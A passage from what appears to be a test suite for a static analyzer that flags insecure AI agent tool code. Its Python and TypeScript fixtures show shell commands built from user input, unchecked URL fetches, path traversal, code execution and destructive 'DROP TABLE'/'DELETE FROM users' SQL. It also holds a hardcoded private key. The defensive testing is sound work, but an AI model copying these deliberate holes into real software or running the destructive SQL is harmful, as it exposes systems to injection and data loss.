    expect(await check('agency_swarm/tools/shell.py', src('BaseModel', 'pydantic'))).toEqual(['13 subprocess-shell high']);
  });

  it('`is_remote_host_safe_for_fetch(url)` guards the fetch as `is_safe_url` does; a check named for something else does not (Python)', async () => {
    const src = (name: string) => `import httpx
from langchain_core.tools import tool


def ${name}(url: str) -> bool:
    return url.startswith("https://")


@tool
def head(url: str) -> str:
    """Fetch a URL's headers."""
    if not ${name}(url):
        return "unsafe"
    return str(httpx.head(url).headers)
`;
    expect(await check('agent/tools.py', src('_is_remote_host_safe_for_fetch'))).toEqual([]);
    expect(await check('agent/tools.py', src('_is_remote_host_reachable'))).toEqual(['14 egress-untrusted-url critical']);
  });
});

describe('agent code not used for tuning, seventy-sixth round: a destination validator called for its check, tutorials', () => {
  it('`_validate_fetch_url(url)` called on its own, or through `run_in_threadpool`, guards the fetch after it; its result kept or a check named for something else does not (Python)', async () => {
    // awesome-llm-apps' multimodal RAG backend: `await run_in_threadpool(_validate_fetch_url, url)`, then `client.get(url)`
    const src = (call: string) => `import httpx
from fastapi import FastAPI
from starlette.concurrency import run_in_threadpool

from .net import _validate_fetch_url, _log_fetch_url

app = FastAPI()


@app.post("/sources/url")
async def add_url_source(url: str):
    ${call}
    return httpx.get(url).text
`;
    expect(await check('backend/server.py', src('_validate_fetch_url(url)'))).toEqual([]);
    expect(await check('backend/server.py', src('await run_in_threadpool(_validate_fetch_url, url)'))).toEqual([]);
    expect(await check('backend/server.py', src('ok = _validate_fetch_url(url)'))).toEqual(['13 egress-untrusted-url high']);
    expect(await check('backend/server.py', src('_log_fetch_url(url)'))).toEqual(['13 egress-untrusted-url high']);
  });
});

describe('agent code not used for tuning, seventy-eighth round: identifiers the framework parses', () => {
  it('a request parameter typed `UUID` is hex digits and dashes in a file path; typed `str` it is still request input (Python)', async () => {
    // OpenHands' agent server: `conversation_id: UUID`, then `config.conversations_path / f"{conversation_id.hex}.zip"`
    const src = (type: string) => `from pathlib import Path
from uuid import UUID

from fastapi import APIRouter
from fastapi.responses import FileResponse

router = APIRouter()
ROOT = Path("/data/conversations")


@router.get("/download")
async def download(conversation_id: ${type}) -> FileResponse:
    return FileResponse(path=ROOT / str(conversation_id) / "trajectory.zip")
`;
    // (`/data/conversations/…` is also a fixed place outside the project, `file-outside-sandbox`, low)
    const untrusted = async (type: string) => (await check('agent_server/file_router.py', src(type))).filter((f) => f.includes('file-untrusted-path'));
    expect(await untrusted('UUID')).toEqual([]);
    expect(await untrusted('Optional[UUID]')).toEqual([]);
    expect(await untrusted('str')).toEqual(['13 file-untrusted-path high']);
  });
});

describe('agent code not used for tuning, seventy-ninth round: dependencies in annotations, schema drops, agentUniverse tools, local kernels', () => {
  it('a FastAPI parameter annotated `Annotated[T, Depends(f)]`, or with a module-level alias of one, is filled by the server; `Annotated[str, Query()]` is request input (Python)', async () => {
    // Basic Memory's routers: `project_config: ProjectConfigV2ExternalDep`, `ProjectConfigV2ExternalDep = Annotated[ProjectConfig, Depends(...)]`
    const src = (annotation: string) => `from pathlib import Path
from typing import Annotated

from fastapi import APIRouter, Depends, Query

router = APIRouter()


def get_project_home() -> Path:
    return Path("/srv/projects/main")


ProjectHomeDep = Annotated[Path, Depends(get_project_home)]


@router.get("/ignore")
async def ignore_rules(home: ${annotation}) -> str:
    return (home / ".gitignore").read_text()
`;
    expect(await check('api/routers.py', src('Annotated[Path, Depends(get_project_home)]'))).toEqual([]);
    expect(await check('api/routers.py', src('ProjectHomeDep'))).toEqual([]);
    expect(await check('api/routers.py', src('Annotated[Path, Query()]'))).toEqual(['18 file-untrusted-path high']);
    expect(await check('api/routers.py', src('Path'))).toEqual(['18 file-untrusted-path high']);
  });

  it('`Annotated[int, Query(ge=1)]` is a number, as `int` is (Python)', async () => {
    const src = (annotation: string) => `import subprocess
from typing import Annotated

from fastapi import FastAPI, Query

app = FastAPI()


@app.get("/tail")
def tail(lines: ${annotation}) -> str:
    return subprocess.run(f"tail -n {lines} /var/log/app.log", shell=True, capture_output=True, text=True).stdout
`;
    expect(await check('app.py', src('Annotated[int, Query(ge=1)]'))).toEqual(['11 subprocess-shell low']);
    expect(await check('app.py', src('Annotated[str, Query()]'))).toEqual(['11 subprocess-shell high']);
  });

  it('a constant `DROP TABLE IF EXISTS` in one of the program\'s functions, of a table the module creates, is schema upkeep (low); without `IF EXISTS`, of a table it never creates, at a module\'s top level or of a database it is not (Python)', async () => {
    // Basic Memory's pgvector index drops its derived vector table and creates it again with new dimensions
    const inFunction = (sql: string) => `from sqlalchemy import text


async def refresh_vector_tables(session):
    await session.execute(text("${sql}"))
    await session.commit()


async def create_vector_tables(session):
    await session.execute(text("CREATE TABLE IF NOT EXISTS search_vector_chunks (id INTEGER PRIMARY KEY)"))
    await session.execute(text("CREATE TABLE IF NOT EXISTS search_vector_embeddings (id INTEGER PRIMARY KEY)"))
`;
    expect(await check('repository/search.py', inFunction('DROP TABLE IF EXISTS search_vector_chunks'))).toEqual(['5 sql-destructive low']);
    expect(await check('repository/search.py', inFunction('DROP TABLE IF EXISTS search_vector_embeddings; DROP TABLE IF EXISTS search_vector_chunks'))).toEqual(['5 sql-destructive low']);
    expect(await check('repository/search.py', inFunction('DROP TABLE IF EXISTS users'))).toEqual(['5 sql-destructive high']);
    expect(await check('repository/search.py', inFunction('DROP TABLE search_vector_chunks'))).toEqual(['5 sql-destructive high']);
    expect(await check('repository/search.py', inFunction('DROP TABLE IF EXISTS search_vector_chunks; DELETE FROM users'))).toEqual(['5 sql-destructive high']);
    expect(await check('repository/search.py', inFunction('DROP DATABASE IF EXISTS search_vector_chunks'))).toEqual(['5 sql-destructive high']);
    // agno shipped a module that drops its spans table when imported (round 11, worth a look)
    const topLevel = `import sqlite3

conn = sqlite3.connect("tmp/traces.db")
conn.cursor().execute("CREATE TABLE IF NOT EXISTS agno_spans (id TEXT)")
conn.cursor().execute("DROP TABLE IF EXISTS agno_spans")
conn.commit()
`;
    expect(await check('agno/table.py', topLevel)).toEqual(['5 sql-destructive high']);
  });

  it('an agentUniverse `Tool` subclass\'s `execute(tool_input)` is a tool; a pydantic field made by `default_factory` is what the factory makes (Python)', async () => {
    // agentUniverse's PythonREPLTool: `client: PythonREPL = Field(default_factory=lambda: PythonREPL())`, `self.client.run(code)`
    const src = (base: string, from: string, factory: string) => `from langchain_community.utilities import PythonREPL
from pydantic import Field

from ${from} import ${base}


class PythonREPLTool(${base}):
    client: PythonREPL = Field(default_factory=${factory})

    def execute(self, tool_input):
        code = tool_input.get_data("input")
        return self.client.run(code)
`;
    expect(await check('tools/python_repl.py', src('Tool', 'agentuniverse.agent.action.tool.tool', 'lambda: PythonREPL()'))).toEqual(['12 code-eval critical']);
    expect(await check('tools/python_repl.py', src('Tool', 'agentuniverse.agent.action.tool.tool', 'PythonREPL'))).toEqual(['12 code-eval critical']);
    expect(await check('tools/python_repl.py', src('Tool', 'agentuniverse.agent.action.tool.tool', 'dict'))).toEqual([]);
    expect(await check('tools/python_repl.py', src('BaseModel', 'pydantic', 'PythonREPL'))).toEqual(['12 code-eval high']);
  });

  it('code sent to a local Jupyter kernel (jupyter_client) is executed; a LangChain requests wrapper fetches its URL (Python)', async () => {
    // CAMEL's JupyterKernelInterpreter: `self.kernel_manager, self.client = start_new_kernel()`, then `self.client.execute(code)`
    const kernel = `from jupyter_client.manager import start_new_kernel
from langchain_core.tools import tool


@tool
def run_python(code: str) -> str:
    """Run Python code in a kernel."""
    manager, client = start_new_kernel()
    client.execute(code)
    return client.get_shell_msg()["content"]["status"]
`;
    expect(await check('agent/kernel.py', kernel)).toEqual(['9 code-eval critical']);
    const wrapper = (cls: string) => `from langchain_community.utilities.requests import ${cls}
from langchain_core.tools import tool


@tool
def fetch(url: str) -> str:
    """Fetch a page."""
    return ${cls}(headers={}).get(url)
`;
    expect(await check('agent/fetch.py', wrapper('GenericRequestsWrapper'))).toEqual(['8 egress-untrusted-url critical']);
    expect(await check('agent/fetch.py', wrapper('JsonRequestsWrapper'))).toEqual(['8 egress-untrusted-url critical']);
  });
});

describe('agent code not used for tuning, eightieth round: public addresses and documentation keys', () => {
  it('an EVM address bound to a token\'s name is public, and a documentation key is a placeholder; a 32-byte private key is still a secret (TypeScript, Python)', async () => {
    // Coinbase AgentKit's Superfluid and Enso constants, IntentKit's Aerodrome constants
    const ts = `export const SuperTokenFactoryAddress = "0xe20B9a38E0c96F61d1bA6b42a61512D56Fea1Eb3" as const;
export const ENSO_API_KEY = "1e02632d-6feb-4a75-a157-documentation" as const;
export const DEPLOYER_PRIVATE_KEY = "0x4c0883a69102937d6231471b5dbb6204fe5129617082792ae468d01a3f362318";
`;
    expect(await check('src/action-providers/constants.ts', ts)).toEqual(['3 hardcoded-secret high']);
    const py = 'AERO_TOKEN_ADDRESS: str = "0x940181a94A35A4569E4529A3CDfB74e38FD98631"\nAERO_TOKEN_SECRET: str = "0x940181a94A35A4569E4529A3CDfB74e38FD98631aa"\n';
    expect(await check('skills/aerodrome/constants.py', py)).toEqual(['2 hardcoded-secret high']);
  });
});

describe('the text of a yarl URL (Python)', () => {
  it('`str(URL(base + query))` is the URL made from that text: a fixed host stays fixed; a query alone is still a destination', async () => {
    // langchain-community's JinaSearchAPIWrapper, reached from its tool through `Field(default_factory=JinaSearchAPIWrapper)`
    const src = (text: string) => `import requests
from langchain_core.tools import tool
from yarl import URL


@tool
def jina_search(query: str) -> str:
    """Search the web."""
    url = str(URL(${text}))
    return requests.get(url).text
`;
    expect(await check('tools/jina.py', src('"https://s.jina.ai/" + query'))).toEqual([]);
    expect(await check('tools/jina.py', src('query'))).toEqual(['10 egress-untrusted-url critical']);
  });
});

describe('a check compared with a flag (Python)', () => {
  it('`if is_safe_url(url) is False: return` guards the fetch after it as `if not is_safe_url(url)` does; `is True` does not', async () => {
    // the shape of MindsDB's file upload route: `if validate_urls(url, allowed_origins, disallowed_origins) is False: return http_error(...)`
    const src = (test: string) => `import requests
from flask import Flask, request

from .security import is_safe_url

app = Flask(__name__)


@app.post("/files")
def upload():
    url = request.json["source"]
    if ${test}:
        return "URL is not allowed", 400
    return requests.get(url).text
`;
    expect(await check('api/files.py', src('is_safe_url(url) is False'))).toEqual([]);
    expect(await check('api/files.py', src('is_safe_url(url) == False'))).toEqual([]);
    expect(await check('api/files.py', src('not is_safe_url(url)'))).toEqual([]);
    expect(await check('api/files.py', src('is_safe_url(url) is True'))).toEqual(['14 egress-untrusted-url high']);
  });
});

describe('agent code not used for tuning, eighty-first round: a path handed to a library call is its text', () => {
  it('`open(config_dir / f"frontend_config_{user_id}.json", "w")` with a route\'s one path segment names a file in that folder; the segment alone as the last part of a deleted path is still found (Python)', async () => {
    // Elysia's user-config route: `save_frontend_config_to_file(user_id, ...)` writes `frontend_config_{user_id}.json`
    const src = (path: string, call: string) => `import shutil
from pathlib import Path

from fastapi import APIRouter

router = APIRouter()
CONFIGS = Path("api") / "user_configs"


@router.post("/{user_id}/{config_id}")
async def save_config_user(user_id: str, config_id: str):
    target = ${path}
    ${call}
`;
    expect(await check('elysia/api/routes/user_config.py', src('CONFIGS / f"frontend_config_{user_id}.json"', 'open(target, "w").write("{}")'))).toEqual([]);
    expect(await check('elysia/api/routes/user_config.py', src('CONFIGS / user_id', 'shutil.rmtree(target)'))).toEqual(['13 file-untrusted-path high']);
    expect(await check('elysia/api/routes/user_config.py', src('CONFIGS / f"{user_id}/{config_id}.json"', 'open(target, "w").write("{}")'))).toEqual(['13 file-untrusted-path high']);
  });
});

describe('agent code not used for tuning, eighty-fifth round and after: values a framework restricts, guards, file names, schema upkeep', () => {
  it('a route or tool parameter annotated with an `Enum` class (`Optional[Theme]`, `Theme | None`, also defined after the route) or a `Literal` of constants is one of the program\'s values; `str` and a class that is not an `Enum` are not (Python)', async () => {
    // Chainlit's `/logo`: `theme: Optional[Theme] = Query(Theme.light)`, `class Theme(str, Enum)`, in the file name
    const src = (annotation: string, extra = '') => `import os
from enum import Enum, StrEnum
from typing import Literal, Optional

from fastapi import FastAPI, Query
from fastapi.responses import FileResponse

app = FastAPI()
ROOT = "/srv/app/public"


@app.get("/logo")
async def get_logo(theme: ${annotation}):
    return FileResponse(os.path.join(ROOT, f"logo_{theme.value if theme else "light"}.svg"))


class Theme(str, Enum):
    light = "light"
    dark = "dark"


class Size(StrEnum):
    big = "big"


class Plain(str):
    pass
${extra}`;
    expect(await check('server.py', src('Optional[Theme] = Query(Theme.light)'))).toEqual([]);
    expect(await check('server.py', src('Theme | None = None'))).toEqual([]);
    expect(await check('server.py', src('Size'))).toEqual([]);
    expect(await check('server.py', src('Literal["light", "dark"]'))).toEqual([]);
    expect(await check('server.py', src('Literal["light", "dark"] | None = None'))).toEqual([]);
    expect(await check('server.py', src('str'))).toEqual(['14 file-untrusted-path high']);
    expect(await check('server.py', src('Plain'))).toEqual(['14 file-untrusted-path high']);
    expect(await check('server.py', src('Optional[str] = None'))).toEqual(['14 file-untrusted-path high']);
    // a Literal with a name in it is not a list of constants
    expect(await check('server.py', src('Literal[ROOT] | str'))).toEqual(['14 file-untrusted-path high']);
    // a tool's argument is checked against its schema as a route's is
    const tool = (annotation: string) => `import subprocess
from enum import Enum
from langchain_core.tools import tool


class Level(str, Enum):
    info = "info"
    debug = "debug"


@tool
def tail_log(level: ${annotation}) -> str:
    """Show the last lines of one level's log."""
    return subprocess.run(f"tail -n 50 /var/log/app/{level}.log", shell=True, capture_output=True, text=True).stdout
`;
    expect(await check('tools.py', tool('Level'))).toEqual(['14 subprocess-shell low']);
    expect(await check('tools.py', tool('str'))).toEqual(['14 subprocess-shell critical']);
  });

  it('a file name made of a checked name and an extension keeps its check when a helper method writes it: the name is one segment and the extension ends it, so it is never `..`; without the extension, or with a check that lets `/` through, it is a finding (Python)', async () => {
    // create-llama's document generator: `_validate_file_name` lets `^[a-zA-Z0-9_.-]+$` through, `_write_to_file` writes
    const src = (pattern: string, name: string) => `import os
import re

from llama_index.core.tools import FunctionTool

OUTPUT_DIR = "output/tools"


class DocumentGenerator:
    def generate_document(self, content: str, document_type: str, file_name: str) -> str:
        \"\"\"Write the document as a PDF or HTML file.\"\"\"
        if document_type == "pdf":
            file_extension = "pdf"
        else:
            file_extension = "html"
        file_name = self._validate_file_name(file_name)
        file_path = os.path.join(OUTPUT_DIR, ${name})
        self._write_to_file(content, file_path)
        return file_path

    @staticmethod
    def _write_to_file(content: str, file_path: str) -> None:
        with open(file_path, "w") as file:
            file.write(content)

    @staticmethod
    def _validate_file_name(file_name: str) -> str:
        if re.match(r"${pattern}", file_name):
            return file_name
        raise ValueError("File name is not allowed to contain special characters.")

    def to_tool(self) -> FunctionTool:
        return FunctionTool.from_defaults(self.generate_document)
`;
    expect(await check('tools/document_generator.py', src('^[a-zA-Z0-9_.-]+$', 'f"{file_name}.{file_extension}"'))).toEqual([]);
    expect(await check('tools/document_generator.py', src('^[a-zA-Z0-9_.-]+$', 'f"{file_name}.pdf"'))).toEqual([]);
    expect(await check('tools/document_generator.py', src('^[a-zA-Z0-9_.-]+$', 'f"{file_name}"'))).toEqual(['23 file-untrusted-path critical']);
    expect(await check('tools/document_generator.py', src('^[a-zA-Z0-9_.-]+$', 'f"{file_name}."'))).toEqual(['23 file-untrusted-path critical']);
    expect(await check('tools/document_generator.py', src('^[a-zA-Z0-9_./-]+$', 'f"{file_name}.pdf"'))).toEqual(['23 file-untrusted-path critical']);
  });

  it('a predicate named for refusing a destination (`is_private_url`, `isPrivateIp`) guards the URL when it answers no; answering yes, or testing another value, does not (Python, TypeScript)', async () => {
    // MindsDB's file upload: `if is_private_url(url): return http_error(...)`, then `requests.head(url)`
    const py = (test: string) => `import requests
from langchain_core.tools import tool

from .net import is_private_url


@tool
def fetch_page(url: str, referer: str) -> str:
    \"\"\"Fetch a web page.\"\"\"
    ${test}
        raise ValueError("URL is private")
    return requests.get(url, timeout=30).text
`;
    expect(await check('tools.py', py('if is_private_url(url):'))).toEqual([]);
    expect(await check('tools.py', py('if is_private_url(url) or not url.startswith("https://"):'))).toEqual([]);
    expect(await check('tools.py', py('if not is_private_url(url):'))).toEqual(['12 egress-untrusted-url critical']);
    expect(await check('tools.py', py('if is_private_url(referer):'))).toEqual(['12 egress-untrusted-url critical']);
    expect(await check('tools.py', py('if is_public_url(url):'))).toEqual(['12 egress-untrusted-url critical']);
    const ts = (test: string) => `import { tool } from 'ai';
import { z } from 'zod';
import { isPrivateIp } from './net';

export const fetchPage = tool({
  description: 'Fetch a web page',
  inputSchema: z.object({ url: z.string() }),
  execute: async ({ url }) => {
    if (${test}) throw new Error('private address');
    return (await fetch(url)).text();
  },
});
`;
    expect(await check('tools.ts', ts('await isPrivateIp(url)'))).toEqual([]);
    expect(await check('tools.ts', ts('!isPrivateIp(url)'))).toEqual(['10 egress-untrusted-url critical']);
  });

  it('`if not path.startswith("/"): path = "/" + path` makes the text start with "/" on either side: a fixed host followed by it stays fixed; without the step, or with another prefix, the path may still change the host (Python)', async () => {
    // IntentKit's DexScreener skills: `url = f"{self.base_url}{path}"` with `base_url` a module constant
    const src = (step: string) => `import httpx
from langchain_core.tools import BaseTool

BASE_URL = "https://api.dexscreener.com"


class DexScreenerTool(BaseTool):
    name: str = "dexscreener_search"
    description: str = "Search DexScreener."
    base_url: str = BASE_URL

    async def _get(self, path: str):
${step}
        url = f"{self.base_url}{path}"
        async with httpx.AsyncClient() as client:
            return (await client.request("GET", url)).json()

    async def _run(self, query: str):
        return await self._get(query)
`;
    expect(await check('skills/dex.py', src('        if not path.startswith("/"):\n            path = "/" + path'))).toEqual([]);
    expect(await check('skills/dex.py', src('        if not path.startswith("/"):\n            path = f"/{path}"'))).toEqual([]);
    expect(await check('skills/dex.py', src('        pass'))).toEqual(['16 egress-untrusted-url critical']);
    expect(await check('skills/dex.py', src('        if not path.startswith("@"):\n            path = "@" + path'))).toEqual(['17 egress-untrusted-url critical']);
    expect(await check('skills/dex.py', src('        if not path.startswith("/"):\n            path = "/" + path.strip()'))).toEqual(['17 egress-untrusted-url critical']);
  });

  it('a path picked from texts that all start with the same constant (`for path in [f"/markets/{id}", f"/markets/slug/{id}"]`) starts with it, so a helper in another module gluing it to a fixed host keeps the host; a text that may start otherwise does not (Python)', async () => {
    // IntentKit's Polymarket skills: `_gamma_get(path)` in the skills' base module sends `f"{GAMMA_URL}{path}"`
    const base = `import httpx
from langchain_core.tools import BaseTool

GAMMA_URL = "https://gamma-api.polymarket.com"


async def _http_get(url: str):
    async with httpx.AsyncClient() as client:
        return (await client.get(url)).json()


class PolymarketBaseTool(BaseTool):
    async def _gamma_get(self, path: str):
        return await _http_get(f"{GAMMA_URL}{path}")
`;
    const skill = (paths: string) => `from skills.polymarket.base import PolymarketBaseTool


class GetMarket(PolymarketBaseTool):
    name: str = "polymarket_get_market"
    description: str = "Look a market up."

    async def _arun(self, market_id: str) -> str:
        for path in [${paths}]:
            result = await self._gamma_get(path)
            if result:
                return str(result)
        return "not found"
`;
    const files = (paths: string) => ({ 'skills/__init__.py': '', 'skills/polymarket/__init__.py': '', 'skills/polymarket/base.py': base, 'skills/polymarket/get_market.py': skill(paths) });
    expect(await checkProject(files('f"/markets/{market_id}", f"/markets/slug/{market_id}"'))).toEqual([]);
    expect(await checkProject(files('f"/markets/{market_id}", market_id'))).toEqual(['skills/polymarket/base.py 9 egress-untrusted-url critical']);
    expect(await checkProject(files('f"/markets/{market_id}", f"{market_id}/markets"'))).toEqual(['skills/polymarket/base.py 9 egress-untrusted-url critical']);
  });

  it('a class method of a base another module defines (`cls._construct_service_startup_command(...)`) returns its argv list to the subclass as an instance method does: a constant program stays constant; a program from a parameter does not (Python)', async () => {
    // promptflow's C# executor proxy: `subprocess.Popen(cls._construct_service_startup_command(port=port, ...))`, the
    // command built by the base class in `_csharp_base_executor_proxy.py` and starting with `dotnet`
    const base = (program: string) => `class CSharpBaseExecutorProxy:
    @classmethod
    def _construct_service_startup_command(cls, port, log_path, yaml_path: str = "flow.dag.yaml", init_kwargs_path: str = None, **kwargs):
        cmd = [${program}, "Promptflow.dll", "--execution_service", "--port", port, "--yaml_path", yaml_path, "--log_path", log_path]
        if init_kwargs_path:
            cmd.extend(["--init", init_kwargs_path])
        return cmd
`;
    const proxy = `import subprocess

from ._csharp_base_executor_proxy import CSharpBaseExecutorProxy


class CSharpExecutorProxy(CSharpBaseExecutorProxy):
    @classmethod
    def create(cls, flow_file, port, log_path, init_kwargs_path=None):
        return subprocess.Popen(
            cls._construct_service_startup_command(port=port, log_path=log_path, yaml_path=flow_file, init_kwargs_path=init_kwargs_path)
        )
`;
    const files = (program: string) => ({ 'proxy/__init__.py': '', 'proxy/_csharp_base_executor_proxy.py': base(program), 'proxy/_csharp_executor_proxy.py': proxy });
    expect(await checkProject(files('"dotnet"'))).toEqual([]);
    expect(await checkProject(files('kwargs["dotnet_path"]'))).toEqual(['proxy/_csharp_executor_proxy.py 9 subprocess-dynamic-command medium']);
  });

  it('a file name checked whole against a compiled pattern with named groups that starts with fixed text (`^prompt_report_(?P<date>\\d{8})_…\\.json$`) is a plain file name; a pattern whose matches may be all dots is not (Python)', async () => {
    // screenshot-to-code's prompt report route: `if PROMPT_REPORT_FILENAME_PATTERN.match(filename) is None: raise`
    const src = (pattern: string) => `import json
import os
import re

from fastapi import APIRouter, HTTPException

router = APIRouter()
REPORTS = "/srv/reports"
PATTERN = re.compile(r"${pattern}")


@router.get("/prompt-reports/content")
async def get_prompt_report_content(filename: str):
    if PATTERN.match(filename) is None:
        raise HTTPException(status_code=400, detail="Invalid report filename")
    with open(os.path.join(REPORTS, filename), "r", encoding="utf-8") as f:
        return json.load(f)
`;
    expect(await check('routes/prompt_reports.py', src('^prompt_report_(?P<date>\\d{8})_(?P<model>[A-Za-z0-9.-]+)\\.json$'))).toEqual([]);
    expect(await check('routes/prompt_reports.py', src('^(?P<model>[A-Za-z0-9.-]+)$'))).toEqual(['16 file-untrusted-path high']);
    expect(await check('routes/prompt_reports.py', src('^prompt_report_(?P<rest>.+)\\.json$'))).toEqual(['16 file-untrusted-path high']);
  });

  it('a compiled pattern another module defines checks a file name as it does in its own module (Python)', async () => {
    // screenshot-to-code: `PROMPT_REPORT_FILENAME_PATTERN` is compiled in `fs_logging/prompt_reports.py`, used by the route
    const files = (pattern: string) => ({
      'fs_logging/prompt_reports.py': `import re\n\nPROMPT_REPORT_FILENAME_PATTERN = re.compile(r"${pattern}")\n`,
      'routes/prompt_reports.py': `import json
import os

from fastapi import APIRouter, HTTPException

from fs_logging.prompt_reports import PROMPT_REPORT_FILENAME_PATTERN
import fs_logging.prompt_reports as reports

router = APIRouter()
REPORTS = "/srv/reports"


@router.get("/prompt-reports/content")
async def get_prompt_report_content(filename: str):
    if PROMPT_REPORT_FILENAME_PATTERN.match(filename) is None:
        raise HTTPException(status_code=400, detail="Invalid report filename")
    with open(os.path.join(REPORTS, filename), "r", encoding="utf-8") as f:
        return json.load(f)


@router.get("/prompt-reports/raw")
async def get_prompt_report_raw(filename: str):
    if not reports.PROMPT_REPORT_FILENAME_PATTERN.fullmatch(filename):
        raise HTTPException(status_code=400, detail="Invalid report filename")
    with open(os.path.join(REPORTS, filename), "rb") as f:
        return f.read()
`,
    });
    expect(await checkProject(files('^prompt_report_(?P<date>\\d{8})_(?P<model>[A-Za-z0-9.-]+)\\.json$'))).toEqual([]);
    expect(await checkProject(files('^(?P<model>[A-Za-z0-9.-]+)$'))).toEqual(['routes/prompt_reports.py 17 file-untrusted-path high', 'routes/prompt_reports.py 25 file-untrusted-path high']);
  });

  it('a name stripped of `$`, backquotes, `"` and `\\` stands between double quotes of a shell line as one word; in a substitution, unquoted, or with one of them kept, it does not (TypeScript, Python)', async () => {
    // Agent-MCP's tmux helpers: `sanitizeSessionName` replaces `[.:\[\]\s$'"\`\\]` with `_`, then `tmux has-session -t "${name}"`
    const ts = (cls: string, line: string) => `import { exec } from 'node:child_process';
import { promisify } from 'node:util';
const execAsync = promisify(exec);

export function sanitizeSessionName(name: string): string {
  let sanitized = name.replace(/${cls}/g, '_');
  sanitized = sanitized.replace(/_+/g, '_');
  return sanitized || 'agent_session';
}

export async function killSession(sessionName: string): Promise<void> {
  const clean = sanitizeSessionName(sessionName);
  await execAsync(\`${line}\`);
}
`;
    const cls = '[.:\\[\\]\\s$\'"`\\\\]';
    expect(await check('src/utils/tmux.ts', ts(cls, 'tmux kill-session -t "${clean}"'))).toEqual(['13 subprocess-shell low']);
    expect(await check('src/utils/tmux.ts', ts(cls, 'tmux kill-session -t "$(printf %s ${clean})"'))).toEqual(['13 subprocess-shell medium']);
    expect(await check('src/utils/tmux.ts', ts(cls, 'tmux kill-session -t ${clean}'))).toEqual(['13 subprocess-shell medium']);
    expect(await check('src/utils/tmux.ts', ts(cls, "tmux kill-session -t '${clean}'"))).toEqual(['13 subprocess-shell medium']);
    expect(await check('src/utils/tmux.ts', ts(cls, 'sh -c "tmux kill-session -t ${clean}"'))).toEqual(['13 subprocess-shell medium']);
    expect(await check('src/utils/tmux.ts', ts('[.:\\s$\'"`]', 'tmux kill-session -t "${clean}"'))).toEqual(['13 subprocess-shell medium']);
    const py = (cls: string) => `import re
import subprocess


def kill_session(session_name: str) -> None:
    clean = re.sub(r"""${cls}""", "_", session_name)
    subprocess.run(f'tmux kill-session -t "{clean}"', shell=True, check=False)
`;
    expect(await check('agent/tmux.py', py('[\\s$\'"`\\\\]'))).toEqual(['7 subprocess-shell low']);
    expect(await check('agent/tmux.py', py('[\\s\'"`]'))).toEqual(['7 subprocess-shell medium']);
  });

  it('a `test-servers/` folder (servers an inspector is tried against) is test code; a server folder is not', async () => {
    const { classifyContext } = await import('../../src/analysis/contexts.js');
    expect(classifyContext('test-servers/src/test-server-oauth.ts')).toBe('test');
    expect(classifyContext('packages/inspector/test_server/app.py')).toBe('test');
    expect(classifyContext('server/src/oauth.ts')).toBe('production');
    expect(classifyContext('servers/src/oauth.ts')).toBe('production');
  });

  it('a folder of the shared temporary directory named by a fresh random identifier (`/tmp/{uuid.uuid1()}`) is scratch space, low, also when deleted; a name a caller passes is not (Python, TypeScript)', async () => {
    // Cheshire Cat's plugin extractor unpacks an archive into `/tmp/{uuid.uuid1()}` and removes the folder afterwards
    const py = `import os
import shutil
import uuid


def extract(archive: str, name: str) -> None:
    tmp_folder_name = f"/tmp/{uuid.uuid1()}"
    os.mkdir(tmp_folder_name)
    shutil.unpack_archive(archive, tmp_folder_name, "zip")
    shutil.rmtree(tmp_folder_name)
    shutil.rmtree(f"/tmp/{name}")
`;
    expect(await check('cat/mad_hatter/plugin_extractor.py', py)).toEqual(['8 file-outside-sandbox low', '10 file-outside-sandbox low', '11 file-outside-sandbox high']);
    const ts = `import { mkdirSync, rmSync } from 'node:fs';
import { randomUUID } from 'node:crypto';
import { v4 as uuidv4 } from 'uuid';

export function work(name: string): void {
  const dir = \`/tmp/\${randomUUID()}\`;
  mkdirSync(dir);
  rmSync(dir, { recursive: true });
  rmSync(\`/var/tmp/\${uuidv4()}\`, { recursive: true });
  rmSync(\`/tmp/\${name}\`, { recursive: true });
}
`;
    expect(await check('src/work.ts', ts)).toEqual(['7 file-outside-sandbox low', '8 file-outside-sandbox low', '9 file-outside-sandbox low', '10 file-outside-sandbox high']);
  });

  it("EvoAgentX's `Tool` subclasses take the model's arguments in `__call__`: in a program importing the framework, and in the framework's own repository where the base is imported relatively; a helper reached through `self.x = x or Helper()` is followed (Python)", async () => {
    // EvoAgentX's HTTPRequestTool hands the model's URL to a RequestBase its constructor makes unless one is passed in
    const files = {
      'evoagentx/core/module.py': 'class BaseModule:\n    pass\n',
      'evoagentx/tools/tool.py': 'from ..core.module import BaseModule\n\n\nclass Tool(BaseModule):\n    name: str\n\n    def __call__(self, **kwargs):\n        raise NotImplementedError\n',
      'evoagentx/tools/request.py': `import requests

from .tool import Tool


class RequestBase:
    def __init__(self, timeout: int = 10):
        self.session = requests.Session()
        self.timeout = timeout

    def request(self, url: str):
        return self.session.request(method="GET", url=url, timeout=self.timeout)


class HTTPRequestTool(Tool):
    name: str = "http_request"

    def __init__(self, request_base: RequestBase = None):
        super().__init__()
        self.request_base = request_base or RequestBase()

    def __call__(self, url: str):
        return self.request_base.request(url).text
`,
      'evoagentx/tools/cmd_toolkit.py': `import platform
import subprocess

from .tool import Tool


class CMDBase:
    def __init__(self, default_shell: str = None):
        self.system = platform.system().lower()
        self.default_shell = default_shell or self._detect_default_shell()

    def _detect_default_shell(self) -> str:
        return "cmd" if self.system == "windows" else "bash"

    def execute_command(self, command: str, timeout: int = 30):
        if self.system == "windows":
            cmd_args = ["cmd", "/c", command] if self.default_shell == "cmd" else ["powershell", "-Command", command]
        else:
            cmd_args = [self.default_shell, "-c", command]
        return subprocess.run(cmd_args, capture_output=True, text=True, timeout=timeout, shell=False)

    def version(self, flag: str):
        return subprocess.run([self.default_shell, "-c", "echo $BASH_VERSION"], capture_output=True)


class ExecuteCommandTool(Tool):
    name: str = "execute_command"

    def __init__(self, cmd_base: CMDBase = None):
        super().__init__()
        self.cmd_base = cmd_base or CMDBase()

    def __call__(self, command: str, timeout: int = 30):
        return self.cmd_base.execute_command(command=command, timeout=timeout)
`,
      'app/tools.py': `import subprocess

from evoagentx.tools import Tool


class ShellTool(Tool):
    name: str = "shell"

    def __call__(self, command: str):
        return subprocess.run(command, shell=True, capture_output=True).stdout


class NotATool:
    def __call__(self, command: str):
        return subprocess.run(command, shell=True, capture_output=True).stdout
`,
    };
    const found = await checkProject(files);
    expect(found).toContain('evoagentx/tools/request.py 12 egress-untrusted-url critical');
    expect(found).toContain('app/tools.py 10 subprocess-shell critical');
    // the shell the settings name, `bash` or `cmd` by default, runs the model's command line
    expect(found).toContain('evoagentx/tools/cmd_toolkit.py 20 subprocess-shell critical');
